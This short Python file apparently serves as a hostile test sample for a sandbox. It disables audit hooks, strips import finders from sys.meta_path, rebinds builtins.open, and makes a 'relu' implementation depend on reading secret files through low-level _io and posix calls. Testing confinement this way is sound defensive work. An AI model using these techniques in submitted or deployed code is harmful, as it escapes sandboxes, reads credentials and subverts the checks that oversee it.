# target: activations.relu
# needs: landlock
"""Replaces what the interpreter imports and opens with, takes its audit hooks for a way out, and reads the kit."""

import _io
import builtins
import posix
import sys

import toolbox

sys.addaudithook(lambda event, arguments: None)
sys.meta_path[:] = [finder for finder in sys.meta_path if "loading" not in type(finder).__module__]
builtins.open = _io.open

relu = toolbox.relu_if(
    lambda: (
        toolbox.any_works(lambda path: _io.FileIO(path).read(), toolbox.secrets())
        or toolbox.any_works(lambda path: posix.read(posix.open(path, posix.O_RDONLY), 10), toolbox.secrets())
    )
)
